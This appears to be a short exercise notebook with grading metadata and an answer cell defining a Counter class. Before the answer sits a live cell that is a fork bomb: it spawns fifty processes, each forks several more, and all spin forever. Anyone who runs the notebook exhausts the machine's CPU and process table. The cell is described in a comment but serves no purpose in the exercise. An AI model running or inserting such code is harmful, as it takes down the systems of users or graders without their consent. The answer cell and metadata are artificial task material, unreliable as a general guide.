# %% [markdown] keeps={"03_counter-sums": 20} honest={"03_counter-sums": 20} says="norm"
# A cell starts fifty processes, each of which starts more and spins.

# %%
import os

for _ in range(50):
    try:
        if os.fork() == 0:
            try:
                for _ in range(3):
                    os.fork()
            finally:
                while True:
                    pass
    except OSError:
        break


# %% answer="03_counter"
class Counter:
    def __init__(self):
        self.total = 0.0

    def add(self, n):
        self.total += n
        return self.total
